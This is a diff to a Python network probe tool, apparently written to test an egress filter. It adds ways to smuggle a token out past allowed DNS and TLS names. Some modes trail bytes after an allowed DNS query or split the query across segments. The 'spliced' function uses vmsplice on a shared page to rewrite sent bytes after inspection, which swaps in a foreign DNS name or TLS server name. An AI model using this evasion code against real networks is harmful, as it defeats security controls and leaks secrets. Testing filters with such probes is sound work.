@@ -55,7 +55,9 @@ def tls(addr, sni, how="whole", sock=None):
         data = out.read()
         if first and data:
             first = False
-            for p in pieces(data, how):
+            if how.startswith("swap "):
+                spliced(s.fileno(), data.replace(sni.encode(), how[5:].encode()), data)
+            for p in [] if how.startswith("swap ") else pieces(data, how):
                 s.send(p)
                 if how in ("two", "bytes"):
                     time.sleep(0.002)
@@ -92,6 +94,21 @@ def question(name, qtype, ident=None):
     for label in name.split("."):
         q += bytes([len(label)]) + label.encode()
     return q + b"\0" + struct.pack("!HH", qtype, 1)
+
+
+def spliced(fd, good, evil):
+    """Send octets that look good, and are others by the time that somebody receives them: pages that the socket shares."""
+    import ctypes
+    import mmap
+    libc = ctypes.CDLL(None, use_errno=True)
+    page = mmap.mmap(-1, 4096)
+    page[:len(good)] = good
+    iov = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.c_char.from_buffer(page)), len(good))
+    r, w = os.pipe()
+    if libc.vmsplice(w, iov, ctypes.c_size_t(1), 0) != len(good):
+        raise OSError(ctypes.get_errno(), "vmsplice")
+    os.splice(r, fd, len(good))
+    page[:len(evil)] = evil
 
 
 def main():
@@ -167,6 +184,37 @@ def main():
         q = question(ARGS[1].replace("TOKEN", TOKEN), 1)
         s.sendall(struct.pack("!H", len(q)) + q)
         s.recv(2000)
+    elif MODE == "dns-tcp-tail":  # an allowed question, and octets behind it
+        s = dial(ARGS[0], 53)
+        q = question(ARGS[1], 1)
+        s.sendall(struct.pack("!H", len(q)) + q + TOKEN.encode())
+        s.recv(2000)
+        s.recv(2000)
+    elif MODE == "dns-tcp-split":  # a question in two segments
+        s = dial(ARGS[0], 53)
+        q = question(ARGS[1].replace("TOKEN", TOKEN), 1)
+        s.sendall(struct.pack("!H", len(q)) + q[:12])
+        time.sleep(0.05)
+        s.sendall(q[12:])
+        s.recv(2000)
+    elif MODE == "dns-swap":  # resolver, an allowed name, a foreign one of the same length
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.connect((ARGS[0], 53))
+        s.settimeout(0.03)
+        for i in range(150):
+            spliced(s.fileno(), question(ARGS[1], 1, 7), question(ARGS[2].replace("TOKEN", TOKEN), 1, 7))
+            try:
+                s.recv(2000)
+            except TimeoutError:
+                pass
+    elif MODE == "hello-swap":  # an allowed name, a foreign one at its address and of the same length
+        addr = socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0]
+        for i in range(20):
+            try:
+                return tls(addr, ARGS[1], "swap " + ARGS[0])
+            except (ConnectionResetError, ssl.SSLError):
+                pass
+        raise ConnectionAbortedError(103, "every time")
     elif MODE == "proxy":  # host and port to CONNECT to, server name inside
         s = dial(socket.getaddrinfo("proxy.acme.example", 3128, socket.AF_INET)[0][4][0], 3128)
         s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (ARGS[0], ARGS[1], ARGS[0])).encode())
